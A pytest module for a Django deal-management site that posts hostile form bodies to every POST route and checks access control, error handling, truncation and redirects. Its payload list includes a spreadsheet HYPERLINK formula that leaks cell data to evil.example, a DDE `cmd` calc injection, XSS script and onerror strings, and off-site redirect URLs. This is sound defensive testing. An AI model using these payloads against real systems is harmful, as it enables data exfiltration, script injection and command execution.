"""Every page route that takes a POST, posted hostile bodies by the people around one deal.

The routes come from the URL resolver (`tests.ops.test_route_matrix.routes`, API and admin left
out: schemathesis and Django cover those), so a new form is fuzzed as soon as it has a URL. A
route that answers 405 to a signed-in POST is only checked for that. The field names come from
every form class of the project and every `request.POST.get("…")` in its views, so each hostile
value reaches every field a view reads.

For each route, the deal's own people (its broker, the supervisor, finance) and another
organisation's broker and supervisor, and anonymous visitors, post bodies from `bodies()` (empty,
100 kB texts, NUL, lone surrogates, "abc", negative, huge and 1e309 numbers, 0000-00-00 and
9999-12-31, another organisation's ids, repeated keys, formulas, HTML, other sites' URLs; a
sample per route and persona, see `sample`). Each request runs in a savepoint that is rolled back, so every body meets the same world, and every
INSERT/UPDATE/DELETE it sends is recorded. Asserted:

- never a 5xx;
- another organisation's people get 404 (or 403) and write nothing, on every route whose URL
  names an object of the deal's organisation (`SHARED` lists the routes where they may act);
- anonymous visitors are sent to sign in and write nothing (except on the public forms);
- whatever is refused (4xx) writes nothing;
- a write never keeps a shortened copy of a long text (a silent truncation loses data);
- a redirect never leaves this site;
- nothing is silent: a redirect after a non-empty body either wrote or carries a message, and a
  "saved" message comes with a write (`NOT_FORMS`, `IDEMPOTENT` name the exceptions and why).
"""

from __future__ import annotations

import inspect
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from django import forms
from django.contrib.messages import SUCCESS, get_messages
from django.db import connection, transaction
from django.test import Client
from django.urls import get_resolver, reverse

from tests.ops.route_matrix import EXPECTED
from tests.ops.test_route_matrix import MISSING, routes

pytestmark = pytest.mark.django_db

OWN = ["broker_on_deal", "supervisor", "finance"]
FOREIGN = ["other_broker", "other_supervisor"]
PERSONAS = [*OWN, *FOREIGN, "anonymous"]

# Routes another organisation's people may post to with the deal organisation's object in the
# URL, and why.
SHARED = {
    "need-take": "the needs pool is shared: any broker may take a need and open a deal",
    "need-open": "the same pool, a supervisor opening a deal for one of theirs",
}
# Pages anybody may use, signed in or not: those the route matrix does not send to sign in.
PUBLIC = {name for name, row in EXPECTED.items() if row.get("anonymous") not in {"login", "401"}}
PUBLIC.add("set_language")  # Django's own: anyone may choose a language
# Routes that take a POST without being a form: a redirect that says nothing is their answer.
NOT_FORMS = {
    "set_language": "Django's: sets the language, goes to `next` (a local path) or back",
    "sign-out": "signs out and goes to the sign-in page",
    "submitted": "a public confirmation page: without a submission in the session, to the form",
    "challenge-submitted": "the same, for a proposal",
}
# Actions that may rightly say "done" without writing: asking again for what exists.
IDEMPOTENT = {
    "contract-pdf": "an unchanged contract's pending or ready PDF is returned, not rendered again",
}
# Rows written while answering that are not the business's data.
BOOKKEEPING = {"django_session", "axes_accessattempt", "axes_accesslog", "axes_accessfailurelog"}

# ASCII between two markers: 100 kB a field, so that every field fits under the 10 MB body limit
LONG = "界" + "x" * 99_998 + "界"


def _page_routes() -> list[tuple[str, Any]]:
    seen: dict[str, Any] = {}
    for name, pattern, _methods in routes():
        if not name.startswith("api:") and name not in seen:
            seen[name] = pattern
    return sorted(seen.items())


def _form_fields() -> dict[str, str]:
    """Every field name a page form of the project declares, with its kind."""
    get_resolver().url_patterns  # noqa: B018 -- imports every view module, hence every form

    def below(cls: type) -> Iterator[type]:
        for sub in cls.__subclasses__():
            yield sub
            yield from below(sub)

    kinds: dict[str, str] = {}
    for form in below(forms.BaseForm):
        if form.__module__.split(".")[0] in {"django", "axes", "simple_history", "rest_framework"}:
            continue
        for name, f in getattr(form, "base_fields", {}).items():
            kinds[name] = type(f).__name__
    return kinds


def _posted_names() -> tuple[set[str], set[str]]:
    """Names views read straight from request.POST, and the prefixes of those they build."""
    names: set[str] = set()
    prefixes: set[str] = set()
    for _name, pattern in _page_routes():
        module = inspect.getmodule(inspect.unwrap(pattern.callback))
        if module is None or module.__name__.startswith("django."):
            continue
        source = inspect.getsource(module)
        names |= set(re.findall(r'request\.POST\.(?:get|getlist)\("(\w+)"', source))
        prefixes |= set(re.findall(r'request\.POST\.get\(f"([\w-]+)\{', source))
    return names, prefixes


FIELDS = _form_fields()
NAMES, PREFIXES = _posted_names()
ROUTES = _page_routes()


@dataclass
class Body:
    name: str
    value: Any  # {field: a str, or a list for repeated keys}
    raw: bytes | None = None  # sent as is (what the test client cannot encode)


def _field_names(user_ids: list[int]) -> list[str]:
    extra = [f"{p}{i}" for p in PREFIXES for i in [*user_ids, 0, 1, 2]]
    return sorted(set(FIELDS) | NAMES | set(extra))


def bodies(names: list[str], foreign_ids: dict[str, int]) -> list[Body]:
    def every(value: Any) -> dict[str, Any]:
        return {n: value for n in names}

    formulas = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-1+1",
        "\t=1+1",
    ]
    foreign = foreign_ids["deal"]
    surrogate = "&".join(f"{quote(n)}=%ED%A0%80x" for n in names).encode()
    return [
        Body("empty", {}),
        Body("long", every(LONG)),
        Body("nul", every("a\x00b")),
        Body("surrogate", None, raw=surrogate),
        Body("abc", every("abc")),
        Body("negative", every("-1")),
        Body("huge", every("9" * 40)),
        Body("1e309", every("1e309")),
        Body("date-zero", every("0000-00-00")),
        Body("date-max", every("9999-12-31")),
        Body("foreign-ids", {n: str(foreign_ids.get(n, foreign)) for n in names}),
        Body("repeated", every(["1", "abc", str(foreign)])),
        Body("formulas", {n: formulas[i % len(formulas)] for i, n in enumerate(names)}),
        Body("html", every('<script>alert(1)</script>"><img src=x onerror=alert(1)>')),
        Body(
            "elsewhere",
            {n: ["//evil.example/", "https://evil.example/"][i % 2] for i, n in enumerate(names)},
        ),
    ]


@dataclass
class Answer:
    status: int
    location: str
    levels: list[int]
    writes: list[tuple[str, str]]
    truncated: list[str]


class WriteLog:
    """Every INSERT/UPDATE/DELETE sent while answering, and any text stored shortened."""

    def __init__(self) -> None:
        self.writes: list[tuple[str, str]] = []
        self.truncated: list[str] = []

    def __call__(self, execute, sql, params, many, context):  # type: ignore[no-untyped-def]
        verb = sql.lstrip().split(" ", 1)[0].upper()
        if verb in {"INSERT", "UPDATE", "DELETE"}:
            match = re.search(r'(?:INTO|UPDATE|FROM)\s+"?(\w+)"?', sql, re.IGNORECASE)
            table = match.group(1) if match else "?"
            if table not in BOOKKEEPING:
                self.writes.append((verb, table))
                for param in _flat(params):
                    if isinstance(param, str) and "界" + "x" * 50 in param and LONG not in param:
                        self.truncated.append(f"{table}: {len(param)} chars")
        return execute(sql, params, many, context)


def _flat(params: Any) -> Iterator[Any]:
    if isinstance(params, (list, tuple)):
        for p in params:
            yield from _flat(p)
    elif isinstance(params, dict):
        yield from params.values()
    else:
        yield params


def post(client: Client, url: str, body: Body) -> Answer:
    cookies = client.cookies
    client.cookies = type(cookies)(cookies)  # a copy: a sign-out must not end the next request's
    log = WriteLog()
    with transaction.atomic():
        with connection.execute_wrapper(log):
            if body.raw is not None:
                response = client.generic(
                    "POST", url, body.raw, content_type="application/x-www-form-urlencoded"
                )
            else:
                response = client.post(url, body.value)
        transaction.set_rollback(True)
    client.cookies = cookies
    found = [m.level for m in get_messages(response.wsgi_request)]
    return Answer(
        response.status_code, response.get("Location", ""), found, log.writes, log.truncated
    )


def _local(location: str) -> bool:
    parts = urlsplit(location)
    return not parts.scheme and not parts.netloc and not location.startswith(("//", "/\\"))


def _signs_in(answer: Answer) -> bool:
    return answer.status == 302 and ("next=" in answer.location or answer.location in ("/", "/?"))


URL_IDS = {
    "deal_id": "deal",
    "contract_id": "contract",
    "document_id": "document",
    "payment_id": "payment",
    "request_id": "request",
    "demand_id": "demand",
    "achievement_id": "achievement",
    "job_id": "job",
    "reward_id": "reward",
    "notification_id": "notification",
    "challenge_id": "challenge",
    "submission_id": "submission",
}


def url_of(name: str, pattern: Any, ids: dict[str, int]) -> str:
    kwargs: dict[str, Any] = {}
    for key in pattern.pattern.regex.groupindex:
        if key in URL_IDS:
            kwargs[key] = ids[URL_IDS[key]]
        elif key == "attachment_id":
            kwargs[key] = ids["challenge_attachment" if "challenge" in name else "attachment"]
        elif key == "key":
            kwargs[key] = "funnel"
        else:
            kwargs[key] = ids.get(key.removesuffix("_id"), MISSING)
    return reverse(name, kwargs=kwargs)


@pytest.fixture(scope="module")
def arena(django_db_setup, django_db_blocker, tmp_path_factory):  # type: ignore[no-untyped-def]
    """The route matrix's world, built once for the module and rolled back after it, plus
    another organisation's deal (its ids go in the bodies) and the objects the matrix lacks."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.test import override_settings

    from contracts.models import Contract
    from contracts.services import attachment_add
    from deals.models import Achievement, Demand
    from intake.services import submission_receive
    from tests.factories import BrokerFactory, DealFactory, OrganisationFactory
    from tests.ops.test_route_matrix import build_world

    media = tmp_path_factory.mktemp("media")
    with override_settings(MEDIA_ROOT=media), django_db_blocker.unblock(), transaction.atomic():
        users, ids = build_world()
        lead = users["broker_on_deal"]
        # The catalogue records belong to the deal's organisation (whoever entered them).
        Demand.objects.filter(pk=ids["demand"]).update(created_by=lead)
        Achievement.objects.filter(pk=ids["achievement"]).update(created_by=lead)
        ids["attachment"] = attachment_add(
            contract=Contract.objects.get(pk=ids["contract"]),
            actor=lead,
            kind="other",
            file=SimpleUploadedFile("说明.pdf", b"%PDF-1.4\n%%EOF\n"),
        ).pk
        ids["submission"] = submission_receive(
            kind="need",
            title="注塑件缩痕",
            party="宁波某汽车零部件有限公司",
            description="良品率低",
            region=lead.organisation.region,
            contact="王经理",
            email="wang@example.com",
            consent=True,
        ).pk
        stranger = BrokerFactory(organisation=OrganisationFactory(name="杭州技术市场"))
        foreign = {"deal": DealFactory(lead_broker=stranger).pk}
        foreign |= {n: stranger.pk for n in ("broker", "new_broker", "lead_broker")}
        yield users, ids, foreign
        transaction.set_rollback(True)


# Sampling: the deal's broker and supervisor get `PER_OWNER` bodies a route, the others
# `PER_OTHER`, rotated with the route's place so that across the routes every body meets every
# persona. HOSTILE_FORMS_ALL=1 posts every body as everyone (a longer run).
EVERY = bool(os.environ.get("HOSTILE_FORMS_ALL"))
PER_OWNER, PER_OTHER = 5, 2


def sample(all_bodies: list[Body], route: int, persona: int, owner: bool) -> list[Body]:
    if EVERY:
        return all_bodies
    count = PER_OWNER if owner else PER_OTHER
    start = (route * 3 + persona * 5) % len(all_bodies)
    return [all_bodies[(start + k) % len(all_bodies)] for k in range(count)]


@pytest.mark.parametrize("name", [n for n, _ in ROUTES])
def test_hostile_bodies_never_break_a_form_nor_reach_another_organisation(name, arena):  # type: ignore[no-untyped-def]
    users, ids, foreign = arena
    index = [n for n, _ in ROUTES].index(name)
    pattern = dict(ROUTES)[name]
    url = url_of(name, pattern, ids)
    names = _field_names([u.pk for u in users.values()])
    all_bodies = bodies(names, foreign)
    clients: dict[str, Client] = {}
    for persona in PERSONAS:
        clients[persona] = Client()
        if persona != "anonymous":
            clients[persona].force_login(users[persona])

    if post(clients["supervisor"], url, all_bodies[0]).status == 405:
        for persona in PERSONAS:
            answer = post(clients[persona], url, all_bodies[4])
            assert answer.status in (405, 302), (persona, answer)
            assert not answer.writes
        return

    # The URL names an object of the deal's organisation (a chart's key is not one) that is not
    # public, nor shared (the route matrix lets them read it, or `SHARED` says why they may act).
    names_object = any(k.endswith("_id") for k in pattern.pattern.regex.groupindex)
    private = names_object and name not in SHARED and name not in PUBLIC
    failures: list[str] = []
    for p, persona in enumerate(PERSONAS):
        for body in sample(all_bodies, index, p, persona in ("broker_on_deal", "supervisor")):
            answer = post(clients[persona], url, body)
            fenced = (persona in FOREIGN and private and EXPECTED[name].get(persona) != "200") or (
                persona == "anonymous" and name not in PUBLIC
            )
            failures += [
                f"{problem} — {persona} {body.name}: {answer.status} {answer.location} "
                f"{answer.writes[:4]}"
                for problem in judge(answer, body, persona, fenced, name)
            ]
    assert not failures, "\n".join(f"FAIL {name} {f}" for f in failures)


def judge(answer: Answer, body: Body, persona: str, fenced: bool, name: str) -> Iterator[str]:
    if answer.status >= 500:
        yield "5xx"
    if answer.status in (301, 302, 303, 307, 308) and not _local(answer.location):
        yield "sent to another site"
    if answer.truncated:
        yield f"stored shortened: {answer.truncated}"
    if answer.status >= 400 and answer.writes:
        yield "refused, yet wrote"
    if (
        answer.status == 302
        and body.name != "empty"
        and not answer.writes
        and not answer.levels
        and not fenced
        and not _signs_in(answer)
        and name not in NOT_FORMS
    ):
        yield "a silent redirect: nothing saved, nothing said"
    if SUCCESS in answer.levels and not answer.writes and name not in {*NOT_FORMS, *IDEMPOTENT}:
        yield "said it was saved, wrote nothing"
    if fenced:
        # A NUL is refused (400) before anyone is asked who they are.
        refused = {403, 404} | ({400} if body.name == "nul" else set())
        if persona == "anonymous" and _signs_in(answer):
            refused.add(answer.status)
        if answer.status not in refused:
            yield "not refused to someone who may not"
        if answer.writes:
            yield "wrote for someone who may not"


def test_no_page_binds_its_form_with_post_or_none():
    """`Form(request.POST or None)` leaves the form unbound on an empty POST: the page answers as
    if nothing had been sent (no error at any field), and `add_error` on it raises (a 500 on the
    challenge page once the proposal limit was reached). Every page binds on POST itself."""
    offenders = []
    for _name, pattern in ROUTES:
        module = inspect.getmodule(inspect.unwrap(pattern.callback))
        if module is None or module.__name__.startswith("django."):
            continue
        if re.search(r"request\.(POST|FILES) or None", inspect.getsource(module)):
            offenders.append(module.__name__)
    assert sorted(set(offenders)) == []


def test_an_empty_proposal_after_the_limit_is_a_429_with_the_message(arena):  # type: ignore[no-untyped-def]
    _users, ids, _foreign = arena
    url = reverse("challenge-detail", args=[ids["challenge"]])
    client = Client()
    answers = [client.post(url, {}) for _ in range(12)]
    assert {a.status_code for a in answers} <= {400, 429}
    assert answers[-1].status_code == 429
    assert answers[-1].context["form"].non_field_errors()
    assert answers[0].status_code == 400 and answers[0].context["form"].errors


@pytest.mark.parametrize("name", ["challenge-publish", "demand-import-page"])
def test_an_empty_post_shows_the_errors_at_the_form(name, arena):  # type: ignore[no-untyped-def]
    users, _ids, _foreign = arena
    client = Client()
    client.force_login(users["supervisor"])
    response = client.post(reverse(name), {})
    assert response.status_code == 400 and response.context["form"].errors
